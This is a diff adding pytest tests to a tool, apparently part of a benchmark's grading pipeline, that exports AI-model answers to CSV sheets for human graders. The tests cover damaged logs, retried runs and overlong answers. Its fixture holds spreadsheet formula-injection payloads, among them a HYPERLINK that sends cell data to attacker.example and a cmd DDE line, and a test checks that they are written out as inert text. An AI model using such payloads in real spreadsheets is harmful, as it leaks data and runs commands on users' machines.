@@ -5,10 +5,11 @@ from __future__ import annotations
 import csv
 import math
 import shutil
-from collections.abc import Callable
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import contextmanager
 from fractions import Fraction
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 import pytest
 from inspect_ai import Task, eval, task
@@ -34,6 +35,7 @@ from ramsey_inspect.reports.gtbench_sheets import (
     main,
     parse_score,
 )
+from ramsey_inspect.reports.log_files import NoLogsError
 
 PROBLEMS = ["T3_001", "T3_002", "T3_003", "T3_004"]
 # An answer with every CSV hazard: commas, quotes, newlines, non-ASCII mathematics.
@@ -94,25 +96,38 @@ def _sample(
     )
 
 
-def _write_log(path: Path, who: str, epochs: int = 2) -> Path:
+def _write_log(
+    path: Path,
+    who: str,
+    epochs: int = 2,
+    answers: dict[str, str] | None = None,
+    status: Literal["started", "success", "cancelled", "error"] = "success",
+    problems: Sequence[str] = PROBLEMS,
+    **spec_fields: Any,
+) -> Path:
+    """A GTBench-shaped log of ``problems``; ``answers`` replaces some answers (by problem id)."""
     model, prompting = MODELS[who]
     samples = []
     for epoch in range(1, epochs + 1):
         for i, problem in enumerate(PROBLEMS):
+            if problem not in problems:
+                continue
             answer = TRICKY if i == 0 else f"Proof {i} (epoch {epoch}): obvious, really."
+            answer = (answers or {}).get(problem, answer)
             samples.append(_sample(problem, epoch, 3, "proof", answer, _judge_score(JUDGE[who][i])))
         # Not for graders: a Group 1 exact-match sample and a Group 2 proof.
         samples.append(_sample("T1_001", epoch, 1, "exact_match", "42", _judge_score(True)))
         samples.append(_sample("T2_001", epoch, 2, "proof", "Proof.", _judge_score(False)))
     spec = EvalSpec(
-        created="2025-06-01T00:00:00+00:00",
+        created=spec_fields.pop("created", "2025-06-01T00:00:00+00:00"),
         task="gtbench",
         dataset=EvalDataset(name="gtbench"),
         model=model,
         config=EvalConfig(epochs=epochs),
         task_args={"prompting": prompting},
+        **spec_fields,
     )
-    log = EvalLog(status="success", eval=spec, samples=samples)
+    log = EvalLog(status=status, eval=spec, samples=samples)
     write_eval_log(log, str(path))
     return path
 
@@ -491,3 +506,188 @@ def test_real_eval_log(
     assert answers == {"T3_001": "Proof, obvious.", "T3_002": "A proof."}
     assert row1["prompting"] == "cot"
     assert read_eval_log(log.location).samples is not None
+
+
+# -------------------------------------------------------------------------------------------
+# Hostile answers, damaged and retried logs, paths that cannot be used
+
+# Answers a spreadsheet would run as formulas (OWASP "CSV Injection"), and a NUL byte.
+FORMULAS = {
+    "T3_001": '=HYPERLINK("http://attacker.example/?"&A1,"Click for the reference")',
+    "T3_002": "+1+1",
+    "T3_003": "-2+3 is the proof",
+    "T3_004": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@contextmanager
+def _csv_cells_up_to(size: int) -> Iterator[None]:
+    """Let this test's own csv reading take long cells, then restore the default."""
+    before = csv.field_size_limit()
+    csv.field_size_limit(size)
+    try:
+        yield
+    finally:
+        csv.field_size_limit(before)
+
+
+def _fill_all(folder: Path, score: str = "1", strip_quotes: bool = False) -> None:
+    """Every row of every sheet gets ``score``; optionally the way a spreadsheet re-saves it."""
+    with _csv_cells_up_to(10**7):
+        for sheet in folder.glob("grader_*.csv"):
+            rows = _read(sheet)
+            for row in rows:
+                row["score"] = score
+                row["failure_type"] = "" if score == "1" else "B"
+                row["justification"] = "Checked."
+                if strip_quotes:  # the quote prefix is display-only: re-saving drops it
+                    for column in ("problem_id", "model_answer"):
+                        if row[column].startswith("'"):
+                            row[column] = row[column][1:]
+            _write(sheet, rows)
+
+
+def test_formula_answers_are_written_as_text(tmp_path: Path) -> None:
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    answers = {**FORMULAS, "T3_001": FORMULAS["T3_001"] + "\x00 with a NUL"}
+    _write_log(logs / "alpha.eval", "alpha", answers=answers)
+    _write_log(logs / "beta.eval", "beta", answers={"T3_002": "\tTab first", "T3_003": "\rCR"})
+    out = tmp_path / "sheets"
+    export_sheets([logs], out, graders=1)
+    raw = (out / "grader_1.csv").read_text(encoding="utf-8-sig")
+    assert "\x00" not in raw
+    rows = _read(out / "grader_1.csv")
+    seen = {r["model_answer"] for r in rows}
+    for answer in FORMULAS.values():
+        if answer != FORMULAS["T3_001"]:
+            assert "'" + answer in seen
+    assert "'" + FORMULAS["T3_001"] + "\ufffd with a NUL" in seen
+    assert {"'\tTab first", "'\rCR"} <= seen
+    for row in rows:  # nothing a spreadsheet would evaluate
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert "extra '" in (out / "README.txt").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("strip_quotes", [False, True])
+def test_neutralised_cells_still_match_the_key(tmp_path: Path, strip_quotes: bool) -> None:
+    """Problem ids and answers that needed a quote; the sheet re-saved with or without it."""
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    spec = EvalSpec(
+        created="2025-06-01T00:00:00+00:00",
+        task="gtbench",
+        dataset=EvalDataset(name="gtbench"),
+        model="mockllm/alpha-model",
+        config=EvalConfig(epochs=1),
+        task_args={"prompting": "-minus-first"},
+    )
+    samples = [
+        _sample(pid, 1, 3, "proof", answer, _judge_score(True))
+        for pid, answer in [("-T3_neg", "=1+1"), ("=T3_eq", "'quoted"), ("T3_plain", "+x")]
+    ]
+    write_eval_log(EvalLog(status="success", eval=spec, samples=samples), str(logs / "a.eval"))
+    out = tmp_path / "sheets"
+    export_sheets([logs], out, graders=2)
+    _fill_all(out, strip_quotes=strip_quotes)
+    report = import_sheets(out)
+    assert sorted(report.answers["problem_id"]) == ["-T3_neg", "=T3_eq", "T3_plain"]
+    assert set(report.answers["prompting"]) == {"-minus-first"}
+    assert report.accuracy["grader_1"].tolist() == [1.0]
+
+
+def test_an_answer_longer_than_the_csv_default_round_trips(tmp_path: Path) -> None:
+    """200,000 characters: more than csv's default cell limit (131,072)."""
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    long_answer = "Suppose not. " + "x" * 199_987
+    assert len(long_answer) == 200_000
+    _write_log(logs / "alpha.eval", "alpha", answers={"T3_002": long_answer})
+    out = tmp_path / "sheets"
+    result = export_sheets([logs], out, graders=2)
+    assert any("exceed 32,767 characters" in w for w in result.warnings)
+    _fill_all(out, score="0.5")
+    with _csv_cells_up_to(10**7):
+        answers = {r["problem_id"]: r["model_answer"] for r in _read(out / "grader_1.csv")}
+    assert answers["T3_002"] == long_answer
+    limit = csv.field_size_limit()
+    report = import_sheets(out)
+    assert csv.field_size_limit() == limit  # the wider limit does not leak
+    assert report.mean_score["human_mean"].tolist() == [0.5]
+    assert main(["import-sheets", str(out)]) == 0
+
+
+def test_damaged_logs_are_skipped_and_named(log_dir: Path, tmp_path: Path) -> None:
+    whole = (log_dir / "alpha.eval").read_bytes()
+    (log_dir / "truncated.eval").write_bytes(whole[: len(whole) // 3])
+    (log_dir / "junk.eval").write_text("not a zip file", encoding="utf-8")
+    result = export_sheets([log_dir], tmp_path / "sheets")
+    assert result.n_answers == 8
+    for name in ("truncated.eval", "junk.eval"):
+        [line] = [w for w in result.warnings if name in w]
+        assert "not a readable Inspect log" in line
+    for name in ("alpha.eval", "beta.eval"):
+        (log_dir / name).unlink()
+    with pytest.raises(NoLogsError, match="could be read"):
+        export_sheets([log_dir], tmp_path / "nothing")
+
+
+def test_only_the_newest_attempt_of_a_retried_eval_is_graded(tmp_path: Path) -> None:
+    """A cancelled log and the retry that completes it share the eval's task_id."""
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    first = _write_log(
+        logs / "first.eval",
+        "alpha",
+        status="cancelled",
+        problems=PROBLEMS[:2],
+        task_id="TASK1",
+        created="2025-06-01T10:00:00+00:00",
+    )
+    retry = _write_log(
+        logs / "retry.eval",
+        "alpha",
+        answers={"T3_001": "The retry's proof."},
+        task_id="TASK1",
+        created="2025-06-01T11:00:00+00:00",
+    )
+    result = export_sheets([logs], tmp_path / "sheets")
+    assert result.n_answers == 4
+    assert {r["log_file"] for r in _read(result.key)} == {str(retry)}
+    [note] = [w for w in result.warnings if "superseded" in w]
+    assert f"{first} (cancelled) is superseded by its retry {retry}" in note
+    answers = {r["problem_id"]: r["model_answer"] for r in _read(result.sheets[0])}
+    assert answers["T3_001"] == "The retry's proof."
+
+
+@pytest.mark.parametrize("kind", ["proc", "file", "through_file"])
+def test_an_unwritable_out_fails_in_one_line(
+    log_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
+) -> None:
+    if kind == "proc" and not Path("/proc").is_dir():
+        pytest.skip("no /proc here")
+    a_file = tmp_path / "a_file.txt"
+    a_file.write_text("x", encoding="utf-8")
+    out = {
+        "proc": "/proc/ramsey-test/sheets",
+        "file": str(a_file),
+        "through_file": str(a_file / "s"),
+    }
+    assert main(["export-sheets", str(log_dir), "--out", out[kind]]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1
+    assert err.startswith(f"error: cannot write {out[kind]}: ")
+
+
+@pytest.mark.parametrize("kind", ["missing", "file", "through_file"])
+def test_import_from_an_unusable_folder_fails_in_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
+) -> None:
+    a_file = tmp_path / "a_file.txt"
+    a_file.write_text("x", encoding="utf-8")
+    folder = {"missing": tmp_path / "nowhere", "file": a_file, "through_file": a_file / "s"}[kind]
+    assert main(["import-sheets", str(folder)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1
+    assert err.startswith(f"error: cannot read {folder}: ")
